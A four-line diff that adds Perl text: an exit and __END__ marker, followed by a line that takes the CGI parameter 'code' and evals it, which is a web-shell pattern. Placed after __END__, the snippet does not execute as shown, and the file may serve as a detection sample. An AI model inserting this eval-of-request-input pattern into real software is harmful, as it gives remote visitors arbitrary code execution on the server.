@@ -1,0 +1,4 @@
+exit;
+__END__
+my $code = CGI::param('code');
+eval $code;
